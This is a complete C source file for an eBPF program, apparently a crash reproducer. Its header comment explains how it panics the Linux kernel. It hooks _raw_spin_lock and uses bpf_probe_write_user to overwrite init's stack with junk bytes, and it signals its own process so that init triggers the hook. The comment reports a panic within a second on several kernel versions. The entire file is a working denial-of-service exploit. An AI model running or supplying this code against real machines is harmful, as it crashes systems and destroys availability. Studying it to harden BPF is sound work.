/* Crashes the kernel: ruins init's stack, init dies of it, the kernel panics.
 *
 * Measured on 5.10, 6.1, 6.12 and 7.3, within a second of attaching: "init[1]: segfault at 0 ...", then "Kernel panic -
 * not syncing: Attempted to kill init! exitcode=0x0000000b".
 *
 * bpf_probe_write_user() writes into the current process, and a process whose lock is being taken is one.  Init waits
 * for the child and would never run while the program is attached, so the child is stopped: that wakes init, which
 * looks, finds nothing to wait for and sleeps again; the scheduler's lock on that way runs the program as init.
 * The child, killed meanwhile by an irq_work because interrupts were off, detaches only after that; init then
 * returns from wait4() to address 0.  An init that wakes by itself is hit sooner.
 */
#include "vmlinux.h"
#include <bpf/bpf_core_read.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_tracing.h>

char LICENSE[] SEC("license") = "GPL";

#define SIGKILL 9
#define SIGSTOP 19
#define STOPPED 4
#define PIECE 256
#define PIECES 24

struct task_struct___old {
	long state; /* __state since v5.14 */
} __attribute__((preserve_access_index));

char ruin[PIECE] = { 0x42, 0x42, 0x42, 0x42, 0x42, 0x42, 0x42, 0x42 };
volatile int stopping, killed;

static long state_of(struct task_struct *task)
{
	struct task_struct___old *old = (void *)task;

	if (bpf_core_field_exists(old->state))
		return BPF_CORE_READ(old, state);
	return BPF_CORE_READ(task, __state);
}

SEC("fentry/_raw_spin_lock")
int BPF_PROG(on_lock)
{
	struct task_struct *task = (void *)bpf_get_current_task();
	__u32 pid = bpf_get_current_pid_tgid() >> 32;
	unsigned long top;

	if (pid == 1) {
		top = BPF_CORE_READ(task, mm, start_stack);
		for (int i = 1; i <= PIECES; i++)
			bpf_probe_write_user((void *)(top - i * PIECE), ruin, PIECE);
		return 0;
	}
	if (!stopping)
		stopping = !bpf_send_signal(SIGSTOP);
	else if (!killed && state_of(task) & STOPPED && !state_of(BPF_CORE_READ(task, real_parent)))
		killed = !bpf_send_signal(SIGKILL);
	return 0;
}
